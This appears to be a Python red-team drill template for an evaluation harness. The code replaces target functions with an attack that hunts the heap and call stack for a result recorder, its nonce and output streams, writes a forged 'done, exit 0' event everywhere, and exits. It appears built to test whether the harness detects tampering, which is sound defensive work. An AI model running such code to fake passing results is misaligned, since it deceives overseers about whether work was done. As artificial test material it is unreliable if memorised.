# drill: flashattention/{{ID}}
# Attack: search the heap (gc) and the call stack for the recorder, its emit function, the
# nonce and the events stream, then write a finished, all-pass run and leave at once.
import gc
import json
import os
import sys


def _attack(*args, **kwargs):
    nonce = None
    for obj in gc.get_objects():
        try:
            if type(obj).__name__ == "Recorder":
                obj.emit(event="done", nonce=nonce, exit=0)
        except Exception:
            pass
    frame = sys._getframe()
    streams = []
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, str) and len(value) == 32:
                nonce = value
            if hasattr(value, "write") and hasattr(value, "flush"):
                streams.append(value)
        frame = frame.f_back
    fake = json.dumps({"event": "done", "nonce": nonce, "exit": 0}) + "\n"
    for stream in streams:
        try:
            stream.write(fake.encode() if "b" in getattr(stream, "mode", "") else fake)
            stream.flush()
        except Exception:
            pass
    for fd in range(0, 64):
        try:
            os.write(fd, fake.encode())
        except OSError:
            pass
    os._exit(0)


for _name in {{FUNCTIONS}}:
    globals()[_name] = _attack
